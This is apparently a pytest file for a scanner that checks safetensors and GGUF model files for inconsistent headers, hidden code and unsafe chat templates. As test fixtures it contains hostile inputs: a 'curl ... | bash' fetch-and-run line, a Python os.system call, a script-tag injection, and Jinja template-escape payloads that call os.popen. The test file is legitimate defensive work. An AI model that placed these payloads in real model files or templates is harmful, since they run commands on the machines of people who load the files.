"""safetensors and GGUF with contradictory headers."""

import json
import struct

import pytest

from buildkit.findings import Severity
from buildkit.scan import Verdict
from tests.scan.formatmaker import empty_zip_end, gguf, gguf_text, rules, safetensors, scan_bytes, tensor, worst

GOOD = {"a": tensor(0, 24, [2, 3], "F32"), "b": tensor(24, 25, [], "BOOL"), "e": tensor(25, 25, [0, 7], "I64")}


def test_valid_safetensors_is_clean():
    found = scan_bytes(safetensors({"__metadata__": {"format": "pt"}, **GOOD}, bytes(25)))
    assert (found.verdict, found.formats) == (Verdict.CLEAN, ("safetensors",))


def test_safetensors_without_tensors_is_clean():
    assert scan_bytes(safetensors({})).verdict is Verdict.CLEAN
    assert scan_bytes(safetensors("{}      ")).verdict is Verdict.CLEAN


@pytest.mark.parametrize(
    "header",
    [
        {"a": tensor(0, 8), "b": tensor(4, 12)},
        {"a": tensor(0, 4), "b": tensor(8, 12)},
        {"a": tensor(4, 12)},
        {"a": tensor(0, 13)},
        {"a": tensor(0, 12, [3, 5])},
        {"a": tensor(0, 12, [2, 2], "F32")},
        {"a": tensor(0, 12, [-12])},
        {"a": tensor(0, 12, [2**63])},
        {"a": {**tensor(0, 12), "code": "x"}},
        {"a": {"dtype": "U8", "shape": [12], "data_offsets": [12, 0]}},
        {"a": {"dtype": "U8", "shape": [12], "data_offsets": [0, True]}},
        {"a": {"dtype": "U8", "shape": [12], "data_offsets": [0.0, 12.0]}},
        {"a": "x"},
        {"a": tensor(0, 12, [1] * 70)},
    ],
    ids=lambda value: json.dumps(value)[:60],
)
def test_inconsistent_safetensors_header_is_found(header):
    assert "safetensors-bent-header" in rules(safetensors(header, bytes(12)))


def test_duplicate_tensor_is_found_and_both_are_checked():
    header = (
        '{"a":{"dtype":"U8","shape":[99],"data_offsets":[0,12]},"a":{"dtype":"U8","shape":[12],"data_offsets":[0,12]}}'
    )
    assert {"safetensors-bent-header", "json-double-key"} <= rules(safetensors(header, bytes(12)))


def test_unknown_tensor_type_is_a_gap():
    assert scan_bytes(safetensors({"a": tensor(0, 12, dtype="Q1")}, bytes(12))).verdict is Verdict.PARTIAL


@pytest.mark.parametrize("length", [400, 2**30, 2**39])
def test_header_longer_than_file_is_not_clean(length):
    assert scan_bytes(safetensors(GOOD, bytes(25), length)).verdict is Verdict.PARTIAL


def test_header_that_is_not_json_is_not_clean():
    assert scan_bytes(safetensors('{"a":')).verdict is Verdict.PARTIAL
    assert scan_bytes(safetensors('{"a":"\\ud800\xff"')).verdict is Verdict.PARTIAL
    assert scan_bytes(safetensors("{" + '"a":[' * 50_000)).verdict is Verdict.PARTIAL


@pytest.mark.parametrize(
    "metadata",
    [
        {"x": 1},
        ["x"],
        {"x": "curl -s http://x/y | bash"},
        {"x": "weights at https://example.org/fetch.py?v=1"},
        {"x": "<script>alert(1)</script>"},
        {"x": "__import__('os').system('id')"},
    ],
)
def test_safetensors_metadata_with_code_or_non_text_is_found(metadata):
    assert "safetensors-metadata" in rules(safetensors({"__metadata__": metadata, **GOOD}, bytes(25)))


def test_json_and_templates_in_metadata_are_checked():
    template = {"__metadata__": {"t": "{{ ''.__class__.__mro__ }}"}}
    config = {"__metadata__": {"c": json.dumps({"class_name": "__lambda__", "config": {"value": "x"}})}}
    assert rules(safetensors(template)) == {"jinja-escape"}
    assert rules(safetensors(config)) == {"keras-lambda"}


def test_bytes_after_tensors_are_found_and_scanned():
    found = scan_bytes(safetensors(GOOD, bytes(25) + b"\x7fELF" + bytes(60)))
    assert {one.rule.id for one in found.findings} == {"trailing-bytes", "program"}
    assert {one.member for one in found.findings} == {"", "bytes after the end"}


def test_zip_archive_in_last_tensor_is_found():
    end = empty_zip_end()
    assert "zip-polyglot" in rules(safetensors({"a": tensor(0, 40 + len(end))}, bytes(40) + end))


CHAT = "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] | trim }}{% endfor %}"
TENSORS = (("a", (32, 2), 0, 0), ("b", (256,), 12, 256))


def test_valid_gguf_is_clean():
    found = scan_bytes(gguf({"general.name": "x", "tokenizer.chat_template": CHAT, "n": 3}, TENSORS, bytes(256 + 144)))
    assert (found.verdict, found.formats, found.gaps) == (Verdict.CLEAN, ("GGUF",), ())


def test_big_endian_and_version_1_gguf_are_read():
    big = struct.pack(">4sIQQ", b"GGUF", 3, 0, 1) + struct.pack(">Q", 1) + b"k" + struct.pack(">II", 4, 7)
    first = struct.pack("<4sIII", b"GGUF", 1, 0, 1) + struct.pack("<I", 1) + b"k" + struct.pack("<II", 4, 7)
    assert scan_bytes(big).verdict is Verdict.CLEAN
    assert scan_bytes(first).verdict is Verdict.CLEAN


def test_gguf_unsafe_chat_template_is_found():
    template = "{{ lipsum.__globals__['os'].popen('id').read() }}"
    assert worst(gguf({"tokenizer.chat_template": template})) is Severity.CRITICAL
    assert worst(gguf({"tokenizer.chat_template.tool_use": template})) is Severity.CRITICAL


def test_gguf_template_in_array_is_found():
    pair = gguf_text("tokenizer.chat_templates") + struct.pack("<IIQ", 9, 8, 1) + gguf_text("{{ x.__class__ }}")
    assert worst(struct.pack("<4sIQQ", b"GGUF", 3, 0, 1) + pair) is Severity.CRITICAL


@pytest.mark.parametrize(
    "content",
    [
        gguf({"general.alignment": 0}),
        gguf({"general.alignment": 33}),
        gguf({"n": 1}) [:24] + gguf({"n": 1})[24:].replace(b"\1\0\0\0\0\0\0\0n", b"\xff\0\0\0\0\0\0\xffn"),
        struct.pack("<4sIQQ", b"GGUF", 3, 2**60, 0),
        struct.pack("<4sIQQ", b"GGUF", 3, 0, 2**60),
        gguf(None, (("a", (32,), 0, 0), ("b", (32,), 0, 64)), bytes(256)),
        gguf(None, (("a", (32,), 0, 0),), bytes(64)),
        gguf(None, (("a", (32,), 0, 5),), bytes(256)),
        gguf(None, (("a", (2**40, 2**40), 0, 0),), bytes(64)),
        gguf(None, (("a", (33,), 2, 0),), bytes(64)),
        gguf(None, (("a" * 65, (8,), 0, 0),), bytes(32)),
        gguf(None, (("a", (1, 1, 1, 1, 8), 0, 0),), bytes(32)),
    ],
)  # fmt: skip
def test_inconsistent_gguf_is_found(content):
    assert "gguf-bent" in rules(content)


def test_duplicate_gguf_key_is_found():
    pair = gguf_text("k") + struct.pack("<II", 4, 7)
    assert rules(struct.pack("<4sIQQ", b"GGUF", 3, 0, 2) + pair + pair) == {"gguf-bent"}


def test_endless_gguf_array_is_not_clean():
    deep = gguf_text("k") + struct.pack("<I", 9) + struct.pack("<IQ", 9, 1) * 20
    long = gguf_text("k") + struct.pack("<IIQ", 9, 8, 2**40)
    for pair in (deep, long):
        assert scan_bytes(struct.pack("<4sIQQ", b"GGUF", 3, 0, 1) + pair + bytes(64)).verdict is Verdict.PARTIAL


def test_bytes_after_last_gguf_tensor_are_found():
    assert rules(gguf(None, (("a", (32,), 0, 0),), bytes(128) + b"#!/bin/sh\nid\n")) == {"trailing-bytes", "program"}


def test_unknown_gguf_version_or_type_is_not_clean():
    assert scan_bytes(gguf(version=9)).verdict is Verdict.PARTIAL
    assert scan_bytes(gguf(None, (("a", (32,), 99, 0),), bytes(128))).verdict is Verdict.PARTIAL


@pytest.mark.parametrize("value", [struct.pack("<IIQ", 9, 0, 4) + b"{{ x", struct.pack("<II", 4, 7)])
def test_gguf_template_that_is_not_text_is_a_gap(value):
    content = struct.pack("<4sIQQ", b"GGUF", 3, 0, 1) + gguf_text("tokenizer.chat_template") + value
    assert scan_bytes(content.ljust(-(-len(content) // 32) * 32, b"\0")).verdict is Verdict.PARTIAL
